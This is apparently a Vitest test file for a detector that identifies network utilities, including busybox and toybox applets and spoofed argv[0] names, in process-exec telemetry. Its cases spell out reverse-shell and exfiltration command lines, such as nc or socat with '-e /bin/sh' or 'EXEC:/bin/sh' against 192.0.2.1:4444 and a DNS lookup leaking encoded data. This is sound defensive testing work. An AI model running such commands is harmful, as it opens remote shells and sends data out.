import { describe, expect, it } from "vitest";
import { compileRule } from "../../lib/rule/compile-rule.js";
import { hasExecFlag, identifyUtility } from "../../lib/rule/identify-utility.js";
import { executedProgram } from "../../lib/telemetry/executed-program.js";

const { utilities } = compileRule({});

interface Case {
  readonly name: string;
  readonly exe: string;
  readonly invoked?: string;
  readonly args: string[];
  /** The utility and its own arguments, or undefined when the exec runs none. */
  readonly want: { utility: string; args: string[] } | undefined;
}

const process = ({ exe, invoked, args }: Case) =>
  invoked === undefined ? { executable: exe, args } : { executable: exe, invokedPath: invoked, args };

/**
 * The kernel's view of each exec, as observed on Debian 12 (/proc/PID/exe and /proc/PID/cmdline of the
 * running process): `exec -a busybox /usr/bin/nc -l …` runs /usr/bin/nc.openbsd with argv
 * ["busybox", "-l", …]; a busybox symlink /bin/nc runs /usr/bin/busybox with argv ["/bin/nc", …]; busybox
 * 1.35.0 and toybox 0.8.9 dispatch on argv[0], or argv[1] when argv[0] starts with their own name.
 */
const LEGITIMATE: Case[] = [
  {
    name: "nc through its alternatives symlink",
    exe: "/usr/bin/nc.openbsd",
    invoked: "/usr/bin/nc",
    args: ["nc", "192.0.2.1", "4444"],
    want: { utility: "nc", args: ["192.0.2.1", "4444"] },
  },
  {
    name: "the resolved executable alone names it",
    exe: "/usr/bin/nc.openbsd",
    args: ["nc.openbsd", "192.0.2.1", "4444"],
    want: { utility: "nc.openbsd", args: ["192.0.2.1", "4444"] },
  },
  {
    name: "busybox symlink: the applet is argv[0]",
    exe: "/bin/busybox",
    invoked: "/bin/nc",
    args: ["nc", "192.0.2.1", "4444"],
    want: { utility: "nc", args: ["192.0.2.1", "4444"] },
  },
  {
    name: "busybox symlink called by path: the applet is argv[0]'s basename",
    exe: "/bin/busybox",
    invoked: "/usr/bin/wget",
    args: ["/usr/bin/wget", "http://192.0.2.1/a"],
    want: { utility: "wget", args: ["http://192.0.2.1/a"] },
  },
  {
    name: "busybox nc: the applet is argv[1]",
    exe: "/bin/busybox",
    args: ["busybox", "nc", "192.0.2.1", "4444", "-e", "/bin/sh"],
    want: { utility: "nc", args: ["192.0.2.1", "4444", "-e", "/bin/sh"] },
  },
  {
    name: "busybox with the applet by path (#!/bin/busybox wrappers)",
    exe: "/bin/busybox",
    args: ["busybox", "/usr/bin/nslookup", "x.leak.example"],
    want: { utility: "nslookup", args: ["x.leak.example"] },
  },
  {
    name: "toybox wget",
    exe: "/usr/bin/toybox",
    args: ["toybox", "wget", "http://192.0.2.1/a"],
    want: { utility: "wget", args: ["http://192.0.2.1/a"] },
  },
  {
    name: "a renamed copy run as nc: argv[0] adds the name",
    exe: "/tmp/x",
    args: ["nc", "192.0.2.1", "4444"],
    want: { utility: "nc", args: ["192.0.2.1", "4444"] },
  },
  {
    name: "busybox applet that is no network utility",
    exe: "/bin/busybox",
    args: ["busybox", "ls", "/tmp"],
    want: undefined,
  },
  { name: "which nc runs which", exe: "/usr/bin/which", args: ["which", "nc"], want: undefined },
  { name: "ncdu is not nc", exe: "/usr/bin/ncdu", args: ["ncdu"], want: undefined },
  {
    name: "openssl only as a TLS client or server",
    exe: "/usr/bin/openssl",
    args: ["openssl", "sha256", "/etc/passwd"],
    want: undefined,
  },
  {
    name: "openssl s_client",
    exe: "/usr/bin/openssl",
    args: ["openssl", "s_client", "-connect", "192.0.2.1:443"],
    want: { utility: "openssl", args: ["s_client", "-connect", "192.0.2.1:443"] },
  },
];

/** argv[0] is the caller's: `exec -a NAME FILE …` must not take a detection away. */
const SPOOFED_ARGV0: Case[] = [
  {
    name: "exec -a busybox /usr/bin/nc: nc, not busybox's applet 192.0.2.1",
    exe: "/usr/bin/nc.openbsd",
    invoked: "/usr/bin/nc",
    args: ["busybox", "192.0.2.1", "4444"],
    want: { utility: "nc", args: ["192.0.2.1", "4444"] },
  },
  {
    name: "exec -a busybox nc.openbsd, no invoked path in the telemetry",
    exe: "/usr/bin/nc.openbsd",
    args: ["busybox", "192.0.2.1", "4444"],
    want: { utility: "nc.openbsd", args: ["192.0.2.1", "4444"] },
  },
  {
    name: "exec -a toybox curl",
    exe: "/usr/bin/curl",
    args: ["toybox", "http://192.0.2.1/x"],
    want: { utility: "curl", args: ["http://192.0.2.1/x"] },
  },
  {
    name: "exec -a busybox dig",
    exe: "/usr/bin/dig",
    args: ["busybox", "c2VjcmV0.leak.example"],
    want: { utility: "dig", args: ["c2VjcmV0.leak.example"] },
  },
  {
    name: "exec -a busybox socat keeps its EXEC: argument",
    exe: "/usr/bin/socat",
    args: ["busybox", "TCP:192.0.2.1:4444", "EXEC:/bin/sh"],
    want: { utility: "socat", args: ["TCP:192.0.2.1:4444", "EXEC:/bin/sh"] },
  },
  {
    name: "exec -a toybox nc.traditional -e",
    exe: "/usr/bin/nc.traditional",
    args: ["toybox", "-e", "/bin/sh", "192.0.2.1", "4444"],
    want: { utility: "nc.traditional", args: ["-e", "/bin/sh", "192.0.2.1", "4444"] },
  },
  {
    name: "a symlink named busybox to nc: the invoked name is no reason to read an applet",
    exe: "/usr/bin/nc.openbsd",
    invoked: "/tmp/busybox",
    args: ["/tmp/busybox", "192.0.2.1", "4444"],
    want: { utility: "nc.openbsd", args: ["192.0.2.1", "4444"] },
  },
  {
    name: "exec -a busybox-x /bin/busybox nc: busybox takes any busybox* argv[0] for itself",
    exe: "/bin/busybox",
    args: ["busybox-x", "nc", "192.0.2.1", "4444"],
    want: { utility: "nc", args: ["192.0.2.1", "4444"] },
  },
  {
    name: "a downloaded static busybox-x86_64 is busybox",
    exe: "/tmp/busybox-x86_64",
    args: ["busybox-x86_64", "wget", "http://192.0.2.1/a"],
    want: { utility: "wget", args: ["http://192.0.2.1/a"] },
  },
  {
    name: "no executable in the telemetry: the invoked path is the executed file",
    exe: "",
    invoked: "/usr/bin/nc",
    args: ["busybox", "192.0.2.1", "4444"],
    want: { utility: "nc", args: ["192.0.2.1", "4444"] },
  },
];

/** Where the telemetry has neither an executable nor an invoked path, argv[0] is the one hint left. */
const ARGV0_FALLBACK: Case[] = [
  {
    name: "busybox by argv[0] alone",
    exe: "",
    args: ["busybox", "nc", "192.0.2.1", "4444"],
    want: { utility: "nc", args: ["192.0.2.1", "4444"] },
  },
  {
    name: "an argv[0] busybox does not know runs nothing",
    exe: "/bin/busybox",
    args: ["zzz", "nc", "192.0.2.1"],
    want: undefined,
  },
  { name: "busybox with no arguments", exe: "/bin/busybox", args: [], want: undefined },
];

describe.each([
  ["legitimate", LEGITIMATE],
  ["spoofed argv[0]", SPOOFED_ARGV0],
  ["argv[0] fallback", ARGV0_FALLBACK],
])("identifyUtility: %s", (_group, cases) => {
  it.each(cases)("$name", (c) => {
    const found = identifyUtility(process(c), utilities);
    expect(found === undefined ? undefined : { utility: found.name, args: found.args }).toEqual(c.want);
  });
});

describe("executedProgram", () => {
  it.each([
    [
      { executable: "/usr/bin/dash", args: ["busybox", "/tmp/x"] },
      { name: "dash", argsStart: 1 },
    ],
    [
      { executable: "/bin/busybox", args: ["sh", "/tmp/x"] },
      { name: "sh", argsStart: 1 },
    ],
    [
      { executable: "/bin/busybox", args: ["busybox", "sh", "/tmp/x"] },
      { name: "sh", argsStart: 2 },
    ],
    [
      { executable: "/bin/busybox", args: ["", "sh"] },
      { name: "sh", argsStart: 2 },
    ],
    [
      { executable: "/bin/busybox.static", args: ["/bin/sh"] },
      { name: "sh", argsStart: 1 },
    ],
    [
      { executable: "", invokedPath: "/bin/bash", args: ["x"] },
      { name: "bash", argsStart: 1 },
    ],
    [
      { executable: "", args: ["/bin/bash"] },
      { name: "bash", argsStart: 1 },
    ],
  ])("%j → %j", (image, want) => {
    expect(executedProgram(image)).toMatchObject(want);
  });
});

describe("hasExecFlag", () => {
  it.each([
    [{ exe: "/usr/bin/nc.traditional", args: ["nc", "-e", "/bin/sh", "192.0.2.1", "4444"] }, true],
    [{ exe: "/usr/bin/nc.traditional", args: ["nc", "-lvnpe", "/bin/sh", "4444"] }, true],
    [{ exe: "/usr/bin/ncat", args: ["ncat", "--sh-exec", "id", "192.0.2.1", "4444"] }, true],
    [{ exe: "/usr/bin/socat", args: ["socat", "TCP:192.0.2.1:4444", "EXEC:/bin/sh"] }, true],
    [{ exe: "/usr/bin/socat", args: ["socat", "TCP:192.0.2.1:4444", "system:sh"] }, true],
    [{ exe: "/usr/bin/socat", args: ["socat", "-", "TCP:192.0.2.1:4444"] }, false],
    [{ exe: "/usr/bin/nc.openbsd", args: ["nc", "-lvnp", "4444"] }, false],
    [{ exe: "/usr/bin/telnet", args: ["telnet", "-e", "x", "192.0.2.1"] }, false],
    [{ exe: "/bin/busybox", args: ["busybox", "nc", "192.0.2.1", "4444", "-e", "/bin/sh"] }, true],
    [{ exe: "/bin/busybox", args: ["nc", "-lp", "4444", "-e", "/bin/sh"] }, true],
    // The spoofed argv[0] does not hide the flag.
    [{ exe: "/usr/bin/nc.traditional", args: ["busybox", "-e", "/bin/sh", "192.0.2.1", "4444"] }, true],
  ])("%j → %s", ({ exe, args }, want) => {
    const found = identifyUtility({ executable: exe, args }, utilities);
    expect(found).toBeDefined();
    expect(hasExecFlag(found!)).toBe(want);
  });
});
